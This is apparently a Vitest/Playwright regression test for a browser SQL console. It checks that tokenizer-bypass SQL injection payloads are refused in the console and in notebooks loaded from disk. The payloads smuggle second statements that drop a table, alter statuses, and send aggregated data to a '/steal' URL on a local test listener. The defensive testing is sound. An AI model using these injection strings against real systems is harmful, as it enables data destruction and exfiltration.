import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { launchChromium, openApp } from '../support/chromium';

/**
 * Issue 15: texts that got past the console's tokenizer on main dropped tables, changed statuses
 * and sent them to another origin from DuckDB's worker. A second local origin listens, to see
 * whether anything reaches it.
 */
let browser: Browser;
let listener: Server;
let otherOrigin = '';
const received: string[] = [];
const baseUrl = inject('baseUrl');

beforeAll(async () => {
  browser = await launchChromium();
  listener = createServer((request, response) => {
    received.push(request.url ?? '');
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.end('a\n1\n');
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  otherOrigin = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
}, 120_000);
afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => listener?.close(resolve));
});

const payloads = () => [
  `select $é$'$é$ AS a; DROP TABLE forces; --'`,
  `select $é$'$é$ AS a; UPDATE status_updates SET status = 'complete'; --'`,
  `select $é$'$é$ AS a; SELECT * FROM read_csv('${otherOrigin}/steal?' || (SELECT string_agg(status, ',') FROM status_updates)); --'`,
];

async function runQuery(page: Page, sql: string): Promise<void> {
  const before = Number(await page.locator('.query-outcome').getAttribute('data-runs'));
  await page.getByTestId('sql-input').fill(sql);
  await page.getByTestId('run-query').click();
  await page.waitForSelector(`.query-outcome[data-runs="${before + 1}"]`, { timeout: 60_000 });
}

/** Forces, and status updates by status: what the payloads tried to change. */
async function tableSummary(page: Page): Promise<string> {
  await runQuery(page, `SELECT (SELECT count(*) FROM forces) AS forces, (SELECT count(*) FILTER (status = 'complete') FROM status_updates) AS complete, (SELECT count(*) FROM status_updates) AS updates`);
  return (await page.locator('.console-main tbody').textContent()) ?? '';
}

describe('the read-only sandbox in the browser', () => {
  it('refuses the bypass payloads in the console: no table changes, nothing reaches another origin', async () => {
    const { page, context, requests } = await openApp(browser, baseUrl, '?view=sql');
    try {
      const before = await tableSummary(page);
      expect(before).toMatch(/^43/);
      for (const sql of payloads()) {
        await runQuery(page, sql);
        await expect(page.getByTestId('query-refused').textContent()).resolves.toContain('Run one statement at a time');
      }
      // Straight to read_csv of another origin, in one statement the tokenizer would refuse anyway.
      expect(await tableSummary(page)).toBe(before);
      expect(received).toEqual([]);
      expect(requests.filter((url) => !url.startsWith(baseUrl))).toEqual([]);
    } finally {
      await context.close();
    }
  }, 180_000);

  it('gives repeated result columns their own names, and the console goes on working', async () => {
    const { page, context, errors } = await openApp(browser, baseUrl, '?view=sql');
    try {
      await runQuery(page, 'select 1 AS x, 2 AS x');
      await expect(page.locator('.console-main thead th').allTextContents()).resolves.toEqual(['x', 'x (2)']);
      await runQuery(page, 'SELECT count(*) AS n FROM forces');
      await expect(page.locator('.console-main tbody td').first().textContent()).resolves.toBe('43');
      expect(errors).toEqual([]);
    } finally {
      await context.close();
    }
  }, 180_000);

  it('asks before running a notebook from disk; its payloads are refused when run', async () => {
    const { page, context, requests } = await openApp(browser, baseUrl, '?view=notebooks');
    try {
      await page.waitForSelector('section.notebooks-view[data-ready="true"]', { timeout: 60_000 });
      const blocks = payloads().map((sql, k) => `\`\`\`sql name=block_${k}\n${sql}\n\`\`\`\n`).join('\n');
      const notebook = `# Innocent\n\n${blocks}\n\`\`\`sql name=twice\nselect 1 AS x, 2 AS x\n\`\`\`\n`;
      await page.getByTestId('open-notebook').setInputFiles({ name: 'innocent.md', mimeType: 'text/markdown', buffer: Buffer.from(notebook) });
      await page.waitForSelector('section.notebooks-view[data-waiting="true"][data-notebook="innocent"]');
      await expect(page.getByTestId('notebook-ask').textContent()).resolves.toContain('innocent.md came from your disk');
      await page.getByTestId('notebook-allow').click();
      await page.waitForSelector('section.notebooks-view[data-ready="true"][data-notebook="innocent"]', { timeout: 60_000 });
      await expect(page.getByTestId('query-refused').count()).resolves.toBe(3);
      await expect(page.locator('[data-block="twice"] thead th').allTextContents()).resolves.toEqual(['x', 'x (2)']);
      expect(received).toEqual([]);
      expect(requests.filter((url) => !url.startsWith(baseUrl))).toEqual([]);
    } finally {
      await context.close();
    }
  }, 180_000);
});
